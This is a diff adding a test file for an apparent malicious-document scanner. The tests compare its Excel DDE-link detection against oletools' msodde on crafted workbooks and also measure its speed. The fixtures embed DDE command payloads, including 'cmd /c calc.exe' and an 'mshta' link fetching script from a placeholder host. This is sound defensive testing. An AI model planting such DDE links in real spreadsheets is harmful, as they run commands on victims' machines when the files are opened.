@@ -1,0 +1,171 @@
+"""dde.xlsx_dde_links against oletools' msodde.process_xlsx: the same DDE links, at linear and lower cost."""
+
+from __future__ import annotations
+
+import io
+import struct
+import time
+import zipfile
+from collections.abc import Callable
+
+import pytest
+from oletools import msodde
+
+from coinguard.analyzers.dde import DdeFields, xlsx_dde_links
+from coinguard.analyzers.office_common import memory_path
+from coinguard.findings import Finding, Item
+from coinguard.sniff import sniff
+
+from helpers import DATA, make_context, read_corpus_sample, zip_bytes
+
+BOTH = {"dde.field", "dde.command"}
+
+S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+HEAD = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+CTYPES = (HEAD + b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+          b'<Default Extension="xml" ContentType="application/xml"/>'
+          b'<Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>'
+          b'<Override PartName="/xl/workbook.xml" '
+          b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>')
+BOOK = HEAD + f'<workbook xmlns="{S}"><sheets><sheet name="Data" sheetId="1"/></sheets></workbook>'.encode()
+DDE_LINK = HEAD + (f'<externalLink xmlns="{S}"><ddeLink ddeService="cmd" ddeTopic="/c calc.exe">'
+                   '<ddeItems><ddeItem name="A1" advise="1"/></ddeItems></ddeLink></externalLink>').encode()
+
+
+def sheet(rows: int, formula: str = "") -> bytes:
+    cells = "".join(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>item {r} of the ledger</t></is></c>'
+                    f'<c r="B{r}"><v>{r * 37 % 9973}</v></c><c r="C{r}"><v>{r * 1.25:.2f}</v></c></row>'
+                    for r in range(1, rows + 1))
+    if formula:
+        cells += f'<row r="{rows + 1}"><c r="A{rows + 1}"><f>{formula}</f><v>0</v></c></row>'
+    return HEAD + f'<worksheet xmlns="{S}"><sheetData>{cells}</sheetData></worksheet>'.encode()
+
+
+def workbook(**parts: bytes) -> bytes:
+    members = {"[Content_Types].xml": CTYPES, "xl/workbook.xml": BOOK, "xl/worksheets/sheet1.xml": sheet(20)}
+    members.update({name.replace("__", "/").replace("_dot_", "."): data for name, data in parts.items()})
+    return zip_bytes(members)
+
+
+def xlsb_supbook(service: str, topic: str) -> bytes:
+    """A BIFF12 record stream holding one BrtBeginSupBook of the DDE kind (sbt 1), as in an .xlsb."""
+    def xlwide(text: str) -> bytes:
+        return struct.pack("<I", len(text)) + text.encode("utf-16-le")
+    body = struct.pack("<H", 1) + xlwide(service) + xlwide(topic)
+    assert len(body) < 128
+    return bytes([0x168 & 0x7F | 0x80, 0x168 >> 7, len(body)]) + body
+
+
+def scan(data: bytes) -> list[Finding]:
+    item = Item(path="book.xlsx", name="book.xlsx", data=data, type=sniff(data))
+    assert DdeFields().applies_to(item)
+    return [f for f in DdeFields().handle(item, make_context()) if isinstance(f, Finding)]
+
+
+def both(data: bytes) -> tuple[list[str], list[str]]:
+    """(msodde's links, ours), each sorted (msodde lists a part's links at end tags, we at start tags)."""
+    with memory_path(data) as path:
+        theirs = msodde.process_xlsx(path)
+        ours = xlsx_dde_links(data, path, make_context())
+    return sorted(filter(None, theirs.split("\n"))), sorted(filter(None, ours.split("\n")))
+
+
+KELVIN = "\u212a"  # 'K'.lower() == 'k': msodde's tag.lower() takes it for a ddeLink
+
+CASES: dict[str, tuple[bytes, list[str]]] = {
+    "none": (workbook(), []),
+    "dde link in an external link part": (workbook(xl__externalLinks__externalLink1_dot_xml=DDE_LINK),
+                                          ["cmd /c calc.exe"]),
+    "DDE formula in a cell and its link": (workbook(
+        xl__worksheets__sheet1_dot_xml=sheet(50, "[1]!'/c calc.exe'"),
+        xl__externalLinks__externalLink1_dot_xml=DDE_LINK), ["cmd /c calc.exe"]),
+    "DDE formula without a link part": (workbook(xl__worksheets__sheet1_dot_xml=sheet(50, "cmd|'/c calc.exe'!A1")),
+                                        []),
+    "huge benign sheet": (workbook(xl__worksheets__sheet1_dot_xml=sheet(20_000)), []),
+    "links anywhere, any case, no namespace, kelvin sign": (workbook(
+        customXml__item1_dot_xml=('<r><DDELINK ddeService="mshta" ddeTopic="http://x.example/a"/>'
+                                  '<a:ddelink xmlns:a="urn:x" ddeTopic="only a topic"/>'
+                                  f'<ddeLin{KELVIN} ddeService="pwsh"/></r>').encode()),
+        ["mshta http://x.example/a", "only a topic", "pwsh"]),
+    "utf-16 part": (workbook(xl__externalLinks__externalLink1_dot_xml=DDE_LINK.decode().replace(
+        "UTF-8", "UTF-16").encode("utf-16")), ["cmd /c calc.exe"]),
+    "link before junk after the root": (workbook(xl__externalLinks__externalLink1_dot_xml=DDE_LINK + b"<x/>"),
+                                        ["cmd /c calc.exe"]),
+    "xlsb SupBook record in a binary part": (workbook(xl__externalLinks__externalLink1_dot_bin=xlsb_supbook(
+        "cmd", "/c calc.exe"), xl__media__image1_dot_png=b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8),
+        ["cmd /c calc.exe"]),
+    "empty and undeclared-prefix parts": (workbook(xl__empty_dot_xml=b"", xl__bad_dot_xml=b"<x:ddeLink/>"), []),
+}
+
+
+@pytest.mark.parametrize("case", list(CASES))
+def test_same_links_as_msodde(case: str) -> None:
+    data, expected = CASES[case]
+    theirs, ours = both(data)
+    assert ours == theirs
+    assert ours == expected
+
+
+@pytest.mark.parametrize("name", ["oletools_dde-test.xlsx"])
+def test_same_links_as_msodde_on_the_oletools_poc(name: str) -> None:
+    theirs, ours = both((DATA / name).read_bytes())
+    assert ours == theirs and ours
+
+
+@pytest.mark.corpus
+def test_same_links_as_msodde_on_the_xlsb_poc(corpus_dir: object) -> None:
+    theirs, ours = both(read_corpus_sample("maldocs/oletools/dde-test.xlsb.zip"))
+    assert ours == theirs and ours
+
+
+def test_findings_for_a_crafted_dde_link() -> None:
+    data = CASES["dde link in an external link part"][0]
+    assert sniff(data) == "ooxml.excel"
+    findings = scan(data)
+    assert {f.code for f in findings} == BOTH
+    assert "cmd /c calc.exe" in findings[1].detail
+    assert scan(CASES["huge benign sheet"][0]) == []
+
+
+@pytest.mark.parametrize("link", [True, False])
+def test_xml_that_breaks_off_inside_an_element_is_a_parse_error_as_in_msodde(link: bool) -> None:
+    part = (DDE_LINK if link else sheet(500))[:-40]
+    data = workbook(xl__externalLinks__externalLink1_dot_xml=part)
+    with memory_path(data) as path:
+        with pytest.raises(AssertionError):  # ooxml.XmlParser.iter_xml: assert(depth == 0)
+            msodde.process_xlsx(path)
+        with pytest.raises(ValueError, match="breaks off inside"):
+            xlsx_dde_links(data, path, make_context())
+    assert [f.code for f in scan(data)] == ["dde.parse_error"]
+
+
+def test_a_part_with_a_bad_crc_is_a_parse_error_not_clean() -> None:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
+        for name, part in {"[Content_Types].xml": CTYPES, "xl/workbook.xml": BOOK,
+                           "xl/worksheets/sheet1.xml": sheet(5000)}.items():
+            zf.writestr(name, part)
+    data = bytearray(buf.getvalue())
+    at = data.find(b"item 4000 of")
+    data[at:at + 4] = b"ITEM"  # stored bytes changed: the member's CRC no longer matches
+    assert [f.code for f in scan(bytes(data))] == ["dde.parse_error"]
+
+
+def cpu(fn: Callable[[], object]) -> float:
+    best = float("inf")
+    for _ in range(3):
+        started = time.process_time()
+        fn()
+        best = min(best, time.process_time() - started)
+    return best
+
+
+def test_cost_grows_linearly_and_stays_below_msodde() -> None:
+    small, large = (workbook(xl__worksheets__sheet1_dot_xml=sheet(rows)) for rows in (2_000, 20_000))
+    ctx = make_context()
+    with memory_path(small) as p_small, memory_path(large) as p_large:
+        t_small = cpu(lambda: xlsx_dde_links(small, p_small, ctx))
+        t_large = cpu(lambda: xlsx_dde_links(large, p_large, ctx))
+        t_msodde = cpu(lambda: msodde.process_xlsx(p_large))
+    assert t_large <= 13 * t_small + 0.005, (t_small, t_large)
+    assert t_large * 3 < t_msodde, (t_large, t_msodde)
